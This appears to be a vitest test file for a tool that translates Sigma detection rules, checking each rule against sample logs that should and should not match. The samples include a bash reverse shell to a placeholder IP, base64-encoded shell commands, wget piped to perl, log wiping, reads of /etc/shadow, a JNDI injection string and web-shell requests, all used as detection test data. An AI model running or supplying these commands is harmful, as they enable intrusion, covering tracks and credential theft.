import { describe, expect, it } from 'vitest'
import { attackData } from '../../attack/load.ts'
import { homeAt } from '../../home.ts'
import { sigma, workbench } from './sigma.fixture.ts'

const { recognises } = workbench(attackData(homeAt('/nonexistent')))

type Payload = Readonly<Record<string, unknown>>
type Evidence = string | Payload
interface Told {
  readonly logsource?: string
  readonly yes: readonly Evidence[]
  readonly no: readonly Evidence[]
}
const WEB = 'category: webserver'
const AUDIT = 'product: linux, service: auditd'

/** What each way of writing a detection comes to. */
const CARRIED: Readonly<Record<string, readonly [detection: string, told: Told]>> = {
  'an absent field that everybody else sends': [
    'selection: { c-uri|contains: /door, cs-user-agent: null }\ncondition: selection',
    { logsource: WEB, yes: [{ raw_url: '/door' }], no: [{ raw_url: '/door', user_agent: 'Mozilla/5.0' }, { raw_url: '/' }] },
  ],
  'an absent field, said otherwise': [
    'selection: { c-uri|contains: /door, cs-user-agent|exists: false, cs-method|exists: false }\nagent: { sc-status|exists: true }\ncondition: selection and not agent',
    { logsource: WEB, yes: [{ raw_url: '/door' }], no: [{ raw_url: '/door', status: 200 }] },
  ],
  'not what everybody sends': [
    'selection: { c-uri|contains: /door }\nbrowser: { cs-user-agent|contains: Mozilla }\ncondition: selection and not browser',
    {
      logsource: WEB,
      yes: [{ raw_url: '/door', user_agent: 'x' }, { raw_url: '/door' }],
      no: [{ raw_url: '/door', user_agent: 'Mozilla/5.0' }],
    },
  ],
  'contains, in either case': [
    'selection: { CommandLine|contains: /ETC/shadow }\ncondition: selection',
    { yes: ['cat /etc/shadow', 'cat /ETC/SHADOW'], no: ['cat /etc/passwd'] },
  ],
  'cased: capitals count': [
    'selection: { CommandLine|contains|cased: " -E " }\ncondition: selection',
    { yes: ['nc -E x'], no: ['nc -e x'] },
  ],
  'startswith, endswith, equals': [
    'a: { CommandLine|startswith: "crontab -" }\nb: { CommandLine|endswith: " /etc/hosts" }\nc: { CommandLine: whoami }\ncondition: a or b or c',
    { yes: ['crontab -l', 'cat /etc/hosts', 'whoami', 'ls; whoami'], no: ['x crontab -l', 'cat /etc/hosts x', 'whoami x'] },
  ],
  'all: every value': [
    'selection: { CommandLine|contains|all: [curl, --insecure, /tmp/] }\ncondition: selection',
    { yes: ['curl --insecure http://x -o /tmp/a'], no: ['curl http://x -o /tmp/a', 'curl --insecure http://x; ls /tmp/'] },
  ],
  'program and words of one and the same process': [
    'selection: { Image|endswith: [/wget, /curl], CommandLine|contains: [/dev/shm, /var/tmp] }\ncondition: selection',
    { yes: ['wget http://x -O /dev/shm/a', '/usr/bin/curl x -o /var/tmp/y'], no: ['cd /dev/shm; wget http://x', 'cp /dev/shm/wget x'] },
  ],
  'a program alone, wherever it lies': [
    'selection: { Image|endswith: /nmap }\ncondition: selection',
    { yes: ['nmap', '/opt/bin/nmap -sS x', 'sudo nmap x'], no: ['zenmap', 'man nmap'] },
  ],
  'a filter speaks of the same process': [
    'selection: { Image: /usr/bin/find, CommandLine|contains: " -perm " }\nfilter_help: { CommandLine|contains: --help }\nfilter_home: { CommandLine|startswith: find /home }\ncondition: selection and not 1 of filter_*',
    { yes: ['find / -perm -4000', 'find / -perm -4000; find /home --help'], no: ['find / -perm x --help', 'find /home -perm x'] },
  ],
  'a folder of the program': [
    'selection: { Image|startswith: [/tmp/, /dev/shm/] }\ncondition: selection',
    { yes: ['/tmp/x -a', 'nohup /dev/shm/.a/run &'], no: ['ls /tmp/', 'x'] },
  ],
  'a regular expression, capitals as they stand': [
    "selection: { Image|endswith: /bash, CommandLine|re: '-i\\s.*/dev/(tcp|udp)/[0-9.]+/[0-9]{2,5}' }\ncondition: selection",
    { yes: ['bash -i >& /dev/tcp/192.0.2.1/443 0>&1'], no: ['bash -I >& /dev/tcp/192.0.2.1/443', 'bash -i'] },
  ],
  're with the flag i': [
    'selection: { CommandLine|re|i: "wget.*HTTP" }\ncondition: selection',
    { yes: ['WGET http://x', 'wget HTTP'], no: ['curl http'] },
  ],
  'wildcards, and stars that are none': [
    "selection: { CommandLine: ['chmod * /tmp/*', 'kill -? 1'] }\nstar: { CommandLine|contains: 'rm -rf /\\*' }\ncondition: 1 of *".replace(
      '1 of *',
      'selection or star',
    ),
    { yes: ['chmod 777 /tmp/a', 'kill -9 1', "rm -rf '/*'"], no: ['chmod /tmp/a', 'kill -15 1', 'rm -rf /x'] },
  ],
  base64: [
    'selection: { CommandLine|base64|contains: "/bin/sh -i" }\ncondition: selection',
    { yes: [`echo ${Buffer.from('/bin/sh -i').toString('base64')}`], no: [`echo ${Buffer.from('/bin/sh -j').toString('base64')}`] },
  ],
  'base64offset: wherever it begins': [
    'selection: { CommandLine|base64offset|contains: /bin/bash }\ncondition: selection',
    {
      yes: ['', 'x', 'xy'].map((before) => `echo ${Buffer.from(`${before}/bin/bash -i`).toString('base64')}`),
      no: [`echo ${Buffer.from('/bin/dash').toString('base64')}`],
    },
  ],
  'wide base64': [
    'selection: { CommandLine|wide|base64offset|contains: http:// }\ncondition: selection',
    {
      yes: [`pwsh -enc ${Buffer.from('IWR http://x', 'utf16le').toString('base64')}`],
      no: [`pwsh -enc ${Buffer.from('IWR ftp://x', 'utf16le').toString('base64')}`],
    },
  ],
  windash: [
    'selection: { CommandLine|contains|windash: " -enc " }\ncondition: selection',
    { yes: ['pwsh -enc x', 'pwsh /enc x', 'pwsh \u2013enc x'], no: ['pwsh enc x'] },
  ],
  'exists, and null': [
    'selection: { Image|endswith: /id, User|exists: true }\nroot: { User: null }\ncondition: selection and not root',
    { yes: [{ command_text: 'id', user: 'ada' }], no: ['id'] },
  ],
  'a list of mappings is one of them; names with wildcards': [
    'sel_a: [{ Image|endswith: /id }, { Image|endswith: /who }]\nsel_b: { CommandLine|contains: " -x" }\ncondition: all of sel_*',
    { yes: ['id -x', 'who -x'], no: ['id', 'w -x'] },
  ],
  'brackets, not, and, or': [
    'a: { CommandLine|contains: aa }\nb: { CommandLine|contains: bb }\nc: { CommandLine|contains: cc }\ncondition: (a or b) and not (b and c)',
    { yes: ['x aa', 'x bb', 'x aa cc'], no: ['x bb cc', 'x aa bb cc', 'x cc'] },
  ],
  '1 of them; several conditions': [
    'a: { Image|endswith: /id }\nb: { Image|endswith: /who }\n_c: { Image|endswith: /w }\ncondition: [1 of them, a and b]',
    { yes: ['id', 'who'], no: ['w'] },
  ],
  'words of an audit record': [
    'selection: { type: EXECVE, a0: chmod, a1|contains: +s, a2|startswith: /tmp }\ncondition: selection',
    {
      logsource: AUDIT,
      yes: ['chmod u+s /tmp/x', '/bin/chmod +s /tmp/x'],
      no: ['chmod +x /tmp/x', 'chmod /tmp/x +s', 'chmod -R +s /tmp/x'],
    },
  ],
  'keywords of a shell line': [
    "keywords: ['wget * - http* | perl', 'rm -f /var/log/*']\ncondition: keywords",
    { logsource: 'product: linux', yes: ['wget -q - http://x | perl', 'rm -f /var/log/wtmp'], no: ['wget http://x | sh'] },
  ],
  'requests: target, agent, method, status, referer, address': [
    "selection: { cs-method: POST, c-uri|contains: ['/cgi-bin/', /shell.php], cs-user-agent|startswith: python, sc-status|lt: 500, cs-referer|contains: evil, c-ip|cidr: 192.0.2.0/24 }\ncondition: selection",
    {
      logsource: WEB,
      yes: [
        {
          method: 'POST',
          raw_url: '/cgi-bin/x',
          user_agent: 'Python-requests',
          status: 200,
          headers: ['Referer: http://evil.example/'],
          attacker_ip: '192.0.2.9',
        },
      ],
      no: [
        {
          method: 'POST',
          raw_url: '/cgi-bin/x',
          user_agent: 'Python-requests',
          status: 500,
          headers: ['Referer: http://evil.example/'],
          attacker_ip: '192.0.2.9',
        },
        {
          method: 'POST',
          raw_url: '/cgi-bin/x',
          user_agent: 'Python-requests',
          status: 200,
          headers: ['Cookie: evil'],
          attacker_ip: '192.0.2.9',
        },
        {
          method: 'POST',
          raw_url: '/cgi-bin/x',
          user_agent: 'Python-requests',
          status: 200,
          headers: ['Referer: http://evil.example/'],
          attacker_ip: '198.51.100.9',
        },
      ],
    },
  ],
  'keywords anywhere in a request, all of them': [
    "keywords:\n  '|all': ['${', 'jndi:ldap']\ncondition: keywords",
    {
      logsource: WEB,
      yes: [{ raw_url: `/?x=\${jndi:ldap://y}` }, { raw_url: '/', user_agent: `\${jndi:ldap://y}` }],
      no: [{ raw_url: `/?x=\${y}` }],
    },
  ],
  'numbers: gt, gte, lte': [
    'selection: { cs-method: GET, sc-status|gte: 400, sc-status|lte: 404 }\ncondition: selection',
    {
      logsource: WEB,
      yes: [{ method: 'GET', raw_url: '/', status: 404 }],
      no: [
        { method: 'GET', raw_url: '/', status: 405 },
        { method: 'GET', raw_url: '/', status: 399 },
      ],
    },
  ],
  'what is fetched, as a proxy sees it': [
    'selection: { c-uri|endswith: [.sh, .elf], c-uri|contains: ngrok }\ncondition: selection',
    { logsource: 'category: proxy', yes: [{ url: 'http://a.ngrok.io/x.sh' }], no: [{ url: 'http://a.ngrok.io/x' }] },
  ],
  'logins by name and outcome': [
    'selection: { user: [oracle, postgres], outcome: failure }\ncondition: selection',
    {
      logsource: 'product: linux, service: sshd',
      yes: [{ username: 'oracle', success: false }],
      no: [
        { username: 'oracle', success: true },
        { username: 'ada', success: false },
      ],
    },
  ],
  'ports and hosts': [
    "selection: { DestinationPort: [4444, 1337], Initiated: 'true' }\nfilter: { DestinationIp: 127.0.0.1 }\ncondition: selection and not filter",
    {
      logsource: 'category: network_connection, product: linux',
      yes: [{ target: 'tcp://192.0.2.1:4444' }],
      no: [{ target: 'tcp://127.0.0.1:4444' }, { target: 'tcp://192.0.2.1:14443' }],
    },
  ],
  'files that are left': [
    'selection: { TargetFilename|startswith: /etc/cron.d/ }\ncondition: selection',
    { logsource: 'category: file_event, product: linux', yes: [{ path: '/etc/cron.d/x' }], no: [{ path: '/tmp/etc/cron.d/x' }] },
  ],
  'keywords of a statement': [
    "keywords: ['xp_cmdshell', 'INTO OUTFILE']\ncondition: keywords",
    { logsource: 'category: database', yes: [{ query_text: 'select 1 into outfile "x"' }], no: [{ query_text: 'select 1' }] },
  ],
}

describe('a detection is carried over with its meaning', () => {
  it.each(Object.entries(CARRIED))('%s', (_name, [detection, { logsource, yes, no }]) => {
    const fires = recognises(sigma(detection, logsource === undefined ? {} : { logsource }))
    expect([...yes, ...no].filter(fires)).toEqual(yes)
  })
})
